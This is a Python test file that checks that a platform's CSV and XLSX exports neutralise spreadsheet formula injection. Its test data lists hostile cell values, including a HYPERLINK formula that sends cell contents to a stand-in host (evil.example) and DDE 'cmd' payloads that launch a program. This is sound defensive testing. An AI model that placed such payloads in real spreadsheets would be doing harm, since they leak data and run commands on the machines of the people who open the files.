"""No export cell can run: a hostile corpus through CSV and XLSX, opened again as a spreadsheet would."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import polars as pl
import pytest

from supervision.platform.spreadsheets import FORMULA_STARTS, csv_bytes, neutralise, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "盐城市=HYPERLINK 不是公式",  # a formula sign inside the text is harmless
    "",
]


def _frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "name": HOSTILE,
            "items": [[text, "登记事项"] for text in HOSTILE],
            "fine": [-5.0] * len(HOSTILE),
            "on": [date(2026, 12, 6)] * len(HOSTILE),
        }
    )


def test_neutralise_prefixes_exactly_the_formula_starts() -> None:
    for text in HOSTILE:
        shown = neutralise(text)
        assert not shown.startswith(FORMULA_STARTS)
        assert shown == (f"'{text}" if text[:1] in FORMULA_STARTS else text)


def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers() -> None:
    data = csv_bytes(_frame())
    assert data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE)
    for row, text in zip(rows, HOSTILE, strict=True):
        for value in (row["name"], row["items"]):
            assert not value.startswith(FORMULA_STARTS), value
        assert row["name"].lstrip("'") == text
        assert row["fine"] == "-5.0" and row["on"] == "2026-12-06"


@pytest.mark.parametrize("sheet", ["抽查名单"])
def test_no_xlsx_cell_is_a_formula(sheet: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(_frame(), sheet=sheet, headings={"name": "名称"})))
    page = book[sheet]
    assert [c.value for c in page[1]] == ["名称", "items", "fine", "on"]
    cells = [cell for row in page.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert texts and not [t for t in texts if t.startswith(FORMULA_STARTS)]
    assert page["C2"].value == -5.0 and page["C2"].data_type == "n"
